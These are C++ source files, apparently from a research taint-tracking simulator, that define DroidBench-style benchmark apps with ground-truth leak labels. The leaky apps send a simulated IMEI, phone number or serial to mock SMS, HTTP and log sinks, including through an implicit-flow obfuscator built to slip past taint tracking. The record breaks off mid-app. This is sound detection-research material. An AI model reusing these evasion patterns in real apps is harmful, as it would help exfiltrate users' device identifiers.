    void runCharFromWordShort(Addr word_addr, Addr char_addr);

    /**
     * Run the word-derivation routine: load [src], grind, store a
     * derived word at [dst] (distance 3). Used by natives that return
     * primitives derived from memory data; the caller host-fixes the
     * stored value afterwards.
     */
    void runWordDerive(Addr src_addr, Addr dst_addr);

    /**
     * Set the return value through a traced, derived store from
     * @p src_addr, then host-fix the slot to @p value. Keeps both the
     * PIFT-visible flow (load src -> store retval) and the functional
     * result correct.
     */
    void setRetvalDerived(Addr src_addr, uint32_t value);

    /** Scratch allocation for native helpers (digit buffers). */
    Addr allocScratch(Addr bytes);

    /** Allocate a string object (chars host-written). */
    runtime::Ref newString(const std::string &value);

    /** Read back a string object (host side). */
    std::string readString(runtime::Ref ref);

    /// @}

  private:
    struct Frame
    {
        MethodId method = no_method;
        Addr fp = 0;          //!< this frame's vreg base
        Addr ret_pc = 0;      //!< caller's rPC to resume at
        Addr caller_fp = 0;   //!< caller's rFP
        Addr alloc_mark = 0;  //!< frame-allocator mark to rewind to
        bool entry = false;   //!< pushed by execute(); return halts
    };

    void onSvc(sim::Cpu &cpu, uint32_t num);
    void doInvoke();
    void doReturn();
    void doNewInstance();
    void doNewArray();
    void doThrow();
    void doAbi(Svc svc);

    /** Host-side fetch + dispatch: resume the interpreter at rPC. */
    void fetchAndDispatch();

    /** Run a native routine, preserving interpreter registers. */
    void callRoutine(Addr entry);

    sim::Cpu &cpu_ref;
    Dex &dex_ref;
    runtime::Heap &heap_ref;

    HandlerSet handlers;
    runtime::Routines natives;
    mem::BumpAllocator frame_alloc;
    mem::BumpAllocator scratch_alloc;
    std::vector<Frame> stack;
    bool booted = false;
    bool uncaught = false;
};

} // namespace pift::dalvik

#endif // PIFT_DALVIK_VM_HH
