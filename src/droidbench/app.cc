#include "droidbench/app.hh"

#include <chrono>

#include "static/verifier.hh"
#include "support/logging.hh"
#include "telemetry/telemetry.hh"

namespace pift::droidbench
{

namespace
{

/** App-replay instruments. */
struct ReplayTel
{
    telemetry::Counter &apps =
        telemetry::counter("droidbench.apps_replayed");
    telemetry::Counter &records =
        telemetry::counter("droidbench.trace_records");
    telemetry::Histogram &replay_us = telemetry::histogram(
        "droidbench.replay_us",
        telemetry::exponentialBounds(64, 4.0, 10));
};

ReplayTel &
rtel()
{
    static ReplayTel t;
    return t;
}

} // anonymous namespace

AppContext::AppContext()
    : cpu(memory, hub), heap(memory), env(hub, cpu, heap),
      vm(cpu, dex, heap)
{
    hub.addSink(&buffer);
    // Capture publishes per event: SoA batching (DESIGN.md §12) pays
    // when the sink walks the batch arrays (a tracker), not for raw
    // capture into TraceBuffer, where the packer is an extra copy —
    // bench_throughput's capture_fast section measures exactly that.
    // Callers wanting the live batched pipeline opt in via
    // cpu.setBatching(); tests/test_batch.cc pins that the captured
    // trace is byte-identical either way.
#ifndef NDEBUG
    // Debug builds verify every method — library, framework and app —
    // at registration time; malformed bytecode dies at load, not at
    // some later pc.
    dex.setVerifyHook([](const dalvik::Method &m,
                         const dalvik::Dex &d) {
        auto result = static_analysis::verifyMethod(m, &d);
        for (const auto &diag : result.diagnostics)
            if (diag.severity == static_analysis::Severity::Error)
                pift_panic(
                    "load-time verifier rejected '%s': %s",
                    m.name.c_str(),
                    static_analysis::formatDiagnostic(diag).c_str());
    });
#endif
    lib.install(dex);
    env.install(dex, lib);
}

AppRun
runApp(const AppEntry &entry)
{
    telemetry::Span span("app:" + entry.name, "droidbench");
    auto t0 = std::chrono::steady_clock::now();

    AppContext ctx;
    dalvik::MethodId main = entry.declare(ctx);
    ctx.vm.boot();
    ctx.vm.execute(main);

    AppRun run;
    run.trace = ctx.buffer.takeTrace();
    run.sink_calls = ctx.env.sinkCalls();
    run.uncaught = ctx.vm.uncaughtException();
    run.instructions = ctx.cpu.retired();

    rtel().apps.inc();
    rtel().records.inc(run.trace.records.size());
    rtel().replay_us.observe(static_cast<uint64_t>(
        std::chrono::duration_cast<std::chrono::microseconds>(
            std::chrono::steady_clock::now() - t0)
            .count()));
    return run;
}

} // namespace pift::droidbench
