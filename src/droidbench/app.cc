#include "droidbench/app.hh"

#include "static/verifier.hh"
#include "support/logging.hh"

namespace pift::droidbench
{

AppContext::AppContext()
    : cpu(memory, hub), heap(memory), env(hub, cpu, heap),
      vm(cpu, dex, heap)
{
    hub.addSink(&buffer);
#ifndef NDEBUG
    // Debug builds verify every method — library, framework and app —
    // at registration time; malformed bytecode dies at load, not at
    // some later pc.
    dex.setVerifyHook([](const dalvik::Method &m,
                         const dalvik::Dex &d) {
        auto result = static_analysis::verifyMethod(m, &d);
        for (const auto &diag : result.diagnostics)
            if (diag.severity == static_analysis::Severity::Error)
                pift_panic(
                    "load-time verifier rejected '%s': %s",
                    m.name.c_str(),
                    static_analysis::formatDiagnostic(diag).c_str());
    });
#endif
    lib.install(dex);
    env.install(dex, lib);
}

AppRun
runApp(const AppEntry &entry)
{
    AppContext ctx;
    dalvik::MethodId main = entry.declare(ctx);
    ctx.vm.boot();
    ctx.vm.execute(main);

    AppRun run;
    run.trace = ctx.buffer.takeTrace();
    run.sink_calls = ctx.env.sinkCalls();
    run.uncaught = ctx.vm.uncaughtException();
    run.instructions = ctx.cpu.retired();
    return run;
}

} // namespace pift::droidbench
