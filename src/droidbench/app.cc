#include "droidbench/app.hh"

#include "support/logging.hh"

namespace pift::droidbench
{

AppContext::AppContext()
    : cpu(memory, hub), heap(memory), env(hub, cpu, heap),
      vm(cpu, dex, heap)
{
    hub.addSink(&buffer);
    lib.install(dex);
    env.install(dex, lib);
}

AppRun
runApp(const AppEntry &entry)
{
    AppContext ctx;
    dalvik::MethodId main = entry.declare(ctx);
    ctx.vm.boot();
    ctx.vm.execute(main);

    AppRun run;
    run.trace = ctx.buffer.takeTrace();
    run.sink_calls = ctx.env.sinkCalls();
    run.uncaught = ctx.vm.uncaughtException();
    run.instructions = ctx.cpu.retired();
    return run;
}

} // namespace pift::droidbench
