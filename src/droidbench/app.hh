/**
 * @file
 * The benchmark-app harness.
 *
 * Each benchmark app is a bytecode program declared against the mini
 * Android framework. An AppContext is a complete fresh device (CPU,
 * memory, heap, dex with the Java library and framework installed);
 * running an app yields a captured Trace that interleaves the
 * retired-instruction stream with the source registrations and sink
 * checks — the exact artifact the paper's offline analysis consumed.
 */

#ifndef PIFT_DROIDBENCH_APP_HH
#define PIFT_DROIDBENCH_APP_HH

#include <functional>
#include <string>
#include <vector>

#include "android/framework.hh"
#include "dalvik/method.hh"
#include "dalvik/vm.hh"
#include "mem/memory.hh"
#include "runtime/heap.hh"
#include "runtime/library.hh"
#include "sim/cpu.hh"
#include "sim/trace.hh"

namespace pift::droidbench
{

/** A complete fresh simulated device, ready for one app. */
struct AppContext
{
    AppContext();

    mem::Memory memory;
    sim::EventHub hub;
    sim::TraceBuffer buffer;
    sim::Cpu cpu;
    runtime::Heap heap;
    dalvik::Dex dex;
    runtime::JavaLib lib;
    android::AndroidEnv env;
    dalvik::Vm vm;
};

/**
 * One registry entry. `declare` builds the app's methods into the
 * context's dex and returns the zero-argument main method to run.
 */
struct AppEntry
{
    std::string name;
    std::string category;
    bool leaks = false; //!< ground truth: sensitive data reaches a sink
    std::function<dalvik::MethodId(AppContext &)> declare;
};

/** Artifacts of one app execution. */
struct AppRun
{
    sim::Trace trace;
    std::vector<android::SinkCall> sink_calls;
    bool uncaught = false;
    uint64_t instructions = 0;
};

/** Build a fresh device, run @p entry to completion, capture. */
AppRun runApp(const AppEntry &entry);

/** The DroidBench-like suite: 41 leaky + 16 benign apps. */
const std::vector<AppEntry> &droidBenchApps();

/** The seven real-world-malware analogs (LGRoot first). */
const std::vector<AppEntry> &malwareApps();

} // namespace pift::droidbench

#endif // PIFT_DROIDBENCH_APP_HH
