/**
 * @file
 * Internal registry pieces: the three app-group builders combined by
 * droidBenchApps()/malwareApps() in registry.cc.
 */

#ifndef PIFT_DROIDBENCH_APPS_HH
#define PIFT_DROIDBENCH_APPS_HH

#include <vector>

#include "droidbench/app.hh"

namespace pift::droidbench
{

/** The 41 leaky DroidBench-style apps. */
std::vector<AppEntry> leakyApps();

/** The 16 benign DroidBench-style apps. */
std::vector<AppEntry> benignApps();

/** The 7 malware analogs (LGRoot first). */
std::vector<AppEntry> malwareAppEntries();

} // namespace pift::droidbench

#endif // PIFT_DROIDBENCH_APPS_HH
