/**
 * @file
 * The 16 benign benchmark apps.
 *
 * Each app exercises real framework surface — many read sensitive
 * sources — but no sensitive (or derived) data ever reaches a sink.
 * Apps that touch secret bytes run a cooldown loop before building
 * their outgoing message, the realistic gap that keeps leftover
 * tainting windows from mis-tainting the message (Section 5.1's
 * argument for the 0% false-positive rate).
 */

#include "droidbench/apps.hh"

#include "droidbench/helpers.hh"

namespace pift::droidbench
{

using dalvik::Bc;
using dalvik::MethodBuilder;

namespace
{

MethodBuilder
appMain(const std::string &name)
{
    return MethodBuilder(name + ".main", app_nregs, 0);
}

} // anonymous namespace

std::vector<AppEntry>
benignApps()
{
    std::vector<AppEntry> apps;

    apps.push_back({"Benign_ConstMessage_Sms", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignConstSms");
            emitSource(b, ctx.env.get_device_id, 10); // read, unused
            emitCooldown(b, 12, "cd");
            emitConst(ctx, b, 4, "hello world");
            emitSms(ctx, b, 4);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_ConstLog", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignConstLog");
            emitConst(ctx, b, 4, "started ok");
            emitLog(ctx, b, 4);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_LengthCheck_Sms", "Benign", false,
        [](AppContext &ctx) {
            // Uses the IMEI's length in a branch but sends a constant.
            auto b = appMain("BenignLength");
            emitSource(b, ctx.env.get_device_id, 10);
            b.moveObject(4, 10);
            b.invokeStatic(ctx.lib.string_length, 1, 4);
            b.moveResult(11);
            emitCooldown(b, 12, "cd");
            b.const16(5, 15);
            b.ifNe(11, 5, "bad");
            emitConst(ctx, b, 6, "device ok");
            b.gotoLabel("send");
            b.label("bad");
            emitConst(ctx, b, 6, "device odd");
            b.label("send");
            emitSms(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_CompareDiscard_Http", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignCompare");
            emitSource(b, ctx.env.get_line1_number, 10);
            emitConst(ctx, b, 11, "+15550000000");
            b.moveObject(4, 10);
            b.moveObject(5, 11);
            b.invokeStatic(ctx.lib.string_equals, 2, 4);
            b.moveResult(12);
            emitCooldown(b, 12, "cd");
            emitConst(ctx, b, 6, "ping");
            emitHttp(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_HashNoSink", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignHash");
            emitSource(b, ctx.env.get_device_id, 10);
            b.moveObject(4, 10);
            b.invokeStatic(ctx.lib.string_hash_code, 1, 4);
            b.moveResult(11);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_DeviceModel_Sms", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignModel");
            emitConst(ctx, b, 4, "model=");
            emitConst(ctx, b, 5, "SimPhone-2");
            emitConcat(ctx, b, 6, 4, 5);
            emitSms(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_ReadAllNoSink", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignReadAll");
            emitSource(b, ctx.env.get_device_id, 10);
            emitSource(b, ctx.env.get_line1_number, 11);
            emitSource(b, ctx.env.get_serial, 12);
            b.invokeStatic(ctx.env.get_location, 0, 0);
            b.moveResultObject(13);
            emitCooldown(b, 10, "cd");
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_MathWork_Log", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignMath");
            b.const16(4, 123);
            b.const16(5, 77);
            b.binop(Bc::MulInt, 6, 4, 5);
            b.move(4, 6);
            b.invokeStatic(ctx.lib.int_to_string, 1, 4);
            b.moveResultObject(7);
            emitConst(ctx, b, 5, "result=");
            emitConcat(ctx, b, 8, 5, 7);
            emitLog(ctx, b, 8);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_StringOps_Sms", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignStringOps");
            b.invokeStatic(ctx.lib.sb_init, 0, 0);
            b.moveResultObject(5);
            emitConst(ctx, b, 6, "status:");
            b.moveObject(0, 5);
            b.moveObject(1, 6);
            b.invokeStatic(ctx.lib.sb_append, 2, 0);
            emitConst(ctx, b, 6, "healthy");
            b.moveObject(0, 5);
            b.moveObject(1, 6);
            b.invokeStatic(ctx.lib.sb_append, 2, 0);
            b.moveObject(4, 5);
            b.invokeStatic(ctx.lib.sb_to_string, 1, 4);
            b.moveResultObject(7);
            emitSms(ctx, b, 7);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_IntentConst_Sms", "Benign", false,
        [](AppContext &ctx) {
            MethodBuilder recv("BenignIntent.onReceive", 8, 1);
            recv.moveObject(0, 7);
            recv.const4(1, 0);
            recv.invokeStatic(ctx.env.intent_get_extra, 2, 0);
            recv.moveResultObject(2);
            emitSms(ctx, recv, 2);
            recv.returnVoid();
            auto recv_id = ctx.dex.addMethod(recv.finish());

            auto b = appMain("BenignIntent");
            b.invokeStatic(ctx.env.intent_init, 0, 0);
            b.moveResultObject(5);
            emitConst(ctx, b, 6, "public-data");
            b.moveObject(0, 5);
            b.const4(1, 0);
            b.moveObject(2, 6);
            b.invokeStatic(ctx.env.intent_put_extra, 3, 0);
            b.invokeStatic(recv_id, 1, 5);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_Callback_Const", "Benign", false,
        [](AppContext &ctx) {
            MethodBuilder run("BenignCallback.run", 8, 1);
            run.igetObject(2, 7, 0);
            emitLog(ctx, run, 2);
            run.returnVoid();
            auto run_id = ctx.dex.addMethod(run.finish());
            auto cls = ctx.dex.addClass({"BenignRunnable", 1, 0,
                                         {run_id}});

            auto b = appMain("BenignCallback");
            emitConst(ctx, b, 10, "callback-ran");
            b.newInstance(5, static_cast<uint16_t>(cls));
            b.iputObject(10, 5, 0);
            b.moveObject(4, 5);
            b.invokeStatic(ctx.env.handler_post, 1, 4);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_Exception_Const", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignException");
            emitConst(ctx, b, 10, "fallback");
            b.newInstance(5,
                          static_cast<uint16_t>(ctx.lib.exception_cls));
            b.iputObject(10, 5, 0);
            b.throwVreg(5);
            b.returnVoid();
            b.catchHere();
            b.moveException(7);
            b.igetObject(8, 7, 0);
            emitSms(ctx, b, 8);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_ArrayConst_Http", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignArray");
            emitConst(ctx, b, 10, "constant-chars");
            b.moveObject(4, 10);
            b.invokeStatic(ctx.lib.string_to_char_array, 1, 4);
            b.moveResultObject(5);
            b.moveObject(4, 5);
            b.invokeStatic(ctx.lib.string_from_char_array, 1, 4);
            b.moveResultObject(6);
            emitHttp(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_HeavyLoop_Sms", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignHeavy");
            emitSource(b, ctx.env.get_serial, 10);
            b.moveObject(4, 10);
            b.invokeStatic(ctx.lib.string_hash_code, 1, 4);
            b.moveResult(11);
            emitCooldown(b, 200, "cd");
            emitConst(ctx, b, 4, "done");
            emitSms(ctx, b, 4);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_SubstringConst_Log", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignSubstring");
            emitConst(ctx, b, 10, "public-identifier");
            b.moveObject(0, 10);
            b.const4(1, 0);
            b.const4(2, 6);
            b.invokeStatic(ctx.lib.string_substring, 3, 0);
            b.moveResultObject(6);
            emitLog(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Benign_ParseConst_Sms", "Benign", false,
        [](AppContext &ctx) {
            auto b = appMain("BenignParse");
            emitConst(ctx, b, 10, "42");
            b.moveObject(4, 10);
            b.invokeStatic(ctx.lib.int_parse, 1, 4);
            b.moveResult(11);
            b.addIntLit8(11, 11, 1);
            b.move(4, 11);
            b.invokeStatic(ctx.lib.int_to_string, 1, 4);
            b.moveResultObject(7);
            emitSms(ctx, b, 7);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    return apps;
}

} // namespace pift::droidbench
