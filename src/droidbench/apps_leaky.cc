/**
 * @file
 * The 41 leaky benchmark apps (DroidBench-style).
 *
 * Categories mirror the challenges the paper lists in Section 5:
 * direct flows, aliasing, fields and static fields, arrays and lists,
 * callbacks, method overriding (dynamic dispatch), intents,
 * exceptions, string transformations, arithmetic obfuscation, ABI
 * (float/div) flows, and implicit flows (the Section 4.2 char-switch
 * obfuscator). Every app's ground truth is leaks = true: sensitive
 * data (possibly derived) reaches a sink.
 */

#include "droidbench/apps.hh"

#include "droidbench/helpers.hh"

namespace pift::droidbench
{

using dalvik::Bc;
using dalvik::MethodBuilder;
using dalvik::MethodId;

namespace
{

/** source -> v10; returns builder positioned after the fetch. */
MethodBuilder
appMain(const std::string &name)
{
    return MethodBuilder(name + ".main", app_nregs, 0);
}

/**
 * Emit the char-switch obfuscator of Section 4.2: rebuild the secret
 * in v10 into a StringBuilder in v11 by branching on each character
 * and appending a *different constant* character per case. The taint
 * can only propagate through the tainting window opened by the
 * branch's load of the (tainted) difference: with @p pad extra nop
 * bytecodes between the branch and the constant load, the required
 * window size grows by 3 per nop.
 *
 * Cases cover the digit characters '0'..'9' (IMEI/phone content);
 * non-digits append 'x'.
 */
/**
 * @param junk_stores bookkeeping const stores emitted between the
 *        branch and the constant load of each case: each one consumes
 *        a propagation slot, so the flow needs NT > junk_stores.
 */
void
emitImplicitSwitch(AppContext &ctx, MethodBuilder &b, int pad,
                   bool secret_second, int junk_stores = 0)
{
    // v10 = secret string, v11 = sb (built here), v12 = len, v13 = i
    b.invokeStatic(ctx.lib.sb_init, 0, 0);
    b.moveResultObject(11);
    b.moveObject(4, 10);
    b.invokeStatic(ctx.lib.string_length, 1, 4);
    b.moveResult(12);
    b.const4(13, 0);
    b.label("outer");
    b.ifGe(13, 12, "outer_done");
    b.moveObject(4, 10);
    b.move(5, 13);
    b.invokeStatic(ctx.lib.string_char_at, 2, 4);
    b.moveResult(6);                      // v6 = secret char (tainted)
    // Compiled switch shape: v5 = c - '0', then subtract-and-test per
    // case. v5/v7 are legitimately tainted (derived from the secret);
    // the constant store is the only place taint can jump to the
    // appended character, and its distance from the branch's tainted
    // load is controlled by the nop padding.
    (void)secret_second;
    b.addIntLit8(5, 6, -'0');             // v5 = digit index (tainted)
    for (int d = 0; d <= 9; ++d) {
        std::string next = "case" + std::to_string(d);
        b.addIntLit8(7, 5, static_cast<int8_t>(-d));
        b.ifNez(7, next);                 // tainted load opens the TW
        for (int j = 0; j < junk_stores; ++j)
            b.const4(3, 0);               // consumes a propagation
        for (int p = 0; p < pad; ++p)
            b.nop();
        b.const16(8, static_cast<int16_t>('a' + d));
        b.gotoLabel("append");
        b.label(next);
    }
    for (int j = 0; j < junk_stores; ++j)
        b.const4(3, 0);
    for (int p = 0; p < pad; ++p)
        b.nop();                          // default case, same padding
    b.const16(8, 'x');
    b.label("append");
    b.moveObject(4, 11);
    b.move(5, 8);
    b.invokeStatic(ctx.lib.sb_append_char, 2, 4);
    b.addIntLit8(13, 13, 1);
    b.gotoLabel("outer");
    b.label("outer_done");
    b.moveObject(4, 11);
    b.invokeStatic(ctx.lib.sb_to_string, 1, 4);
    b.moveResultObject(9);
}

/** Emit: rebuild v10 through per-char transform, sb result in v9. */
void
emitCharTransform(AppContext &ctx, MethodBuilder &b,
                  const std::function<void(MethodBuilder &)> &xform)
{
    // v10 = input string; v9 = output string
    b.invokeStatic(ctx.lib.sb_init, 0, 0);
    b.moveResultObject(11);
    b.moveObject(4, 10);
    b.invokeStatic(ctx.lib.string_length, 1, 4);
    b.moveResult(12);
    b.const4(13, 0);
    b.label("xloop");
    b.ifGe(13, 12, "xdone");
    b.moveObject(4, 10);
    b.move(5, 13);
    b.invokeStatic(ctx.lib.string_char_at, 2, 4);
    b.moveResult(6);
    xform(b);                             // transforms v6 in place
    b.moveObject(4, 11);
    b.move(5, 6);
    b.invokeStatic(ctx.lib.sb_append_char, 2, 4);
    b.addIntLit8(13, 13, 1);
    b.gotoLabel("xloop");
    b.label("xdone");
    b.moveObject(4, 11);
    b.invokeStatic(ctx.lib.sb_to_string, 1, 4);
    b.moveResultObject(9);
}

} // anonymous namespace

std::vector<AppEntry>
leakyApps()
{
    std::vector<AppEntry> apps;

    // ---- Direct flows ----------------------------------------------

    apps.push_back({"DirectLeak_Sms_IMEI", "Direct", true,
        [](AppContext &ctx) {
            auto b = appMain("DirectLeakSmsImei");
            emitSource(b, ctx.env.get_device_id, 10);
            emitSms(ctx, b, 10);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"DirectLeak_Http_IMEI", "Direct", true,
        [](AppContext &ctx) {
            auto b = appMain("DirectLeakHttpImei");
            emitSource(b, ctx.env.get_device_id, 10);
            emitHttp(ctx, b, 10);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"DirectLeak_Log_Phone", "Direct", true,
        [](AppContext &ctx) {
            auto b = appMain("DirectLeakLogPhone");
            emitSource(b, ctx.env.get_line1_number, 10);
            emitLog(ctx, b, 10);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"DirectLeak_Sms_SIM", "Direct", true,
        [](AppContext &ctx) {
            auto b = appMain("DirectLeakSmsSim");
            emitSource(b, ctx.env.get_sim_id, 10);
            emitSms(ctx, b, 10);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    // ---- References through fields / statics / containers ----------

    apps.push_back({"Field_RefInField_Sms", "FieldSensitivity", true,
        [](AppContext &ctx) {
            auto holder = ctx.dex.addClass({"Holder", 2, 0, {}});
            auto b = appMain("FieldRefInField");
            emitSource(b, ctx.env.get_device_id, 10);
            b.newInstance(11, static_cast<uint16_t>(holder));
            b.iputObject(10, 11, 0);
            emitCooldown(b, 8, "cd");
            b.igetObject(12, 11, 0);
            emitSms(ctx, b, 12);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Static_RefInStatic_Http", "FieldSensitivity", true,
        [](AppContext &ctx) {
            auto slot = ctx.dex.addStatic("leak_ref");
            auto b = appMain("StaticRef");
            emitSource(b, ctx.env.get_device_id, 10);
            b.sputObject(10, slot);
            emitCooldown(b, 8, "cd");
            b.sgetObject(12, slot);
            emitHttp(ctx, b, 12);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Array_RefInObjectArray_Sms", "ArraysAndLists",
        true,
        [](AppContext &ctx) {
            auto b = appMain("ArrayRef");
            emitSource(b, ctx.env.get_device_id, 10);
            b.const4(4, 3);
            b.newArray(5, 4,
                       static_cast<uint16_t>(
                           ctx.dex.objectArrayClass()));
            b.const4(6, 1);
            b.aputObject(10, 5, 6);
            emitCooldown(b, 8, "cd");
            b.agetObject(12, 5, 6);
            emitSms(ctx, b, 12);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"List_PickSensitive_Log", "ArraysAndLists", true,
        [](AppContext &ctx) {
            auto b = appMain("ListPick");
            b.const4(4, 3);
            b.newArray(5, 4,
                       static_cast<uint16_t>(
                           ctx.dex.objectArrayClass()));
            emitConst(ctx, b, 6, "first");
            b.const4(7, 0);
            b.aputObject(6, 5, 7);
            emitSource(b, ctx.env.get_line1_number, 10);
            b.const4(7, 1);
            b.aputObject(10, 5, 7);
            emitConst(ctx, b, 6, "last");
            b.const4(7, 2);
            b.aputObject(6, 5, 7);
            emitCooldown(b, 8, "cd");
            b.const4(7, 1);
            b.agetObject(12, 5, 7);
            emitLog(ctx, b, 12);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Intent_RefExtra_Sms", "ICC", true,
        [](AppContext &ctx) {
            // The "receiving component".
            MethodBuilder recv("IntentRef.onReceive", 8, 1);
            recv.moveObject(0, 7);
            recv.const4(1, 2);
            recv.invokeStatic(ctx.env.intent_get_extra, 2, 0);
            recv.moveResultObject(2);
            emitSms(ctx, recv, 2);
            recv.returnVoid();
            auto recv_id = ctx.dex.addMethod(recv.finish());

            auto b = appMain("IntentRef");
            emitSource(b, ctx.env.get_device_id, 10);
            b.invokeStatic(ctx.env.intent_init, 0, 0);
            b.moveResultObject(5);
            b.moveObject(0, 5);
            b.const4(1, 2);
            b.moveObject(2, 10);
            b.invokeStatic(ctx.env.intent_put_extra, 3, 0);
            emitCooldown(b, 8, "cd");
            b.invokeStatic(recv_id, 1, 5);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Callback_RefInRunnable_Sms", "Callbacks", true,
        [](AppContext &ctx) {
            MethodBuilder run("CallbackRef.run", 8, 1);
            run.igetObject(2, 7, 0);
            emitSms(ctx, run, 2);
            run.returnVoid();
            auto run_id = ctx.dex.addMethod(run.finish());
            auto cls = ctx.dex.addClass({"LeakRunnable", 1, 0,
                                         {run_id}});

            auto b = appMain("CallbackRef");
            emitSource(b, ctx.env.get_device_id, 10);
            b.newInstance(5, static_cast<uint16_t>(cls));
            b.iputObject(10, 5, 0);
            b.moveObject(4, 5);
            b.invokeStatic(ctx.env.handler_post, 1, 4);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Override_DynamicDispatch_Sms", "Reflection", true,
        [](AppContext &ctx) {
            MethodBuilder base("Override.Base.getData", 8, 1);
            emitConst(ctx, base, 0, "benign-data");
            base.returnObject(0);
            auto base_id = ctx.dex.addMethod(base.finish());
            ctx.dex.addClass({"Base", 0, 0, {base_id}});

            MethodBuilder der("Override.Derived.getData", 8, 1);
            emitSource(der, ctx.env.get_device_id, 0);
            der.returnObject(0);
            auto der_id = ctx.dex.addMethod(der.finish());
            auto der_cls = ctx.dex.addClass({"Derived", 0, 0,
                                             {der_id}});

            auto b = appMain("OverrideDispatch");
            b.newInstance(5, static_cast<uint16_t>(der_cls));
            b.moveObject(4, 5);
            b.invokeVirtual(0, 1, 4);
            b.moveResultObject(6);
            emitSms(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Exception_RefInPayload_Sms", "GeneralJava", true,
        [](AppContext &ctx) {
            auto b = appMain("ExceptionRef");
            emitSource(b, ctx.env.get_device_id, 10);
            b.newInstance(5,
                          static_cast<uint16_t>(ctx.lib.exception_cls));
            b.iputObject(10, 5, 0);
            b.throwVreg(5);
            b.returnVoid();                 // unreachable
            b.catchHere();
            b.moveException(7);
            b.igetObject(8, 7, 0);
            emitSms(ctx, b, 8);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Aliasing_TwoRefs_Sms", "Aliasing", true,
        [](AppContext &ctx) {
            auto b = appMain("Aliasing");
            emitSource(b, ctx.env.get_device_id, 10);
            b.moveObject(11, 10);           // alias
            emitConst(ctx, b, 12, "&alias=");
            emitConcat(ctx, b, 13, 12, 11);
            emitSms(ctx, b, 13);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    // ---- String transformations -------------------------------------

    apps.push_back({"PaperExample_ConcatChain_Sms", "Strings", true,
        [](AppContext &ctx) {
            // Section 2: msgZ = "type=sms" + "&imei=" + IMEI + "&dummy"
            auto b = appMain("PaperExample");
            emitConst(ctx, b, 4, "type=sms");
            emitConst(ctx, b, 5, "&imei=");
            emitConcat(ctx, b, 6, 4, 5);
            emitSource(b, ctx.env.get_device_id, 7);
            emitConcat(ctx, b, 8, 6, 7);    // msgY
            emitConst(ctx, b, 9, "&dummy");
            emitConcat(ctx, b, 10, 8, 9);   // msgZ
            emitSms(ctx, b, 10);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Concat_Prefix_Http", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("ConcatPrefix");
            emitConst(ctx, b, 4, "phone=");
            emitSource(b, ctx.env.get_line1_number, 5);
            emitConcat(ctx, b, 6, 4, 5);
            emitHttp(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Concat_Suffix_Log", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("ConcatSuffix");
            emitSource(b, ctx.env.get_serial, 4);
            emitConst(ctx, b, 5, ":end");
            emitConcat(ctx, b, 6, 4, 5);
            emitLog(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"StringBuilder_Single_Sms", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("SbSingle");
            emitSource(b, ctx.env.get_device_id, 10);
            b.invokeStatic(ctx.lib.sb_init, 0, 0);
            b.moveResultObject(5);
            b.moveObject(0, 5);
            b.moveObject(1, 10);
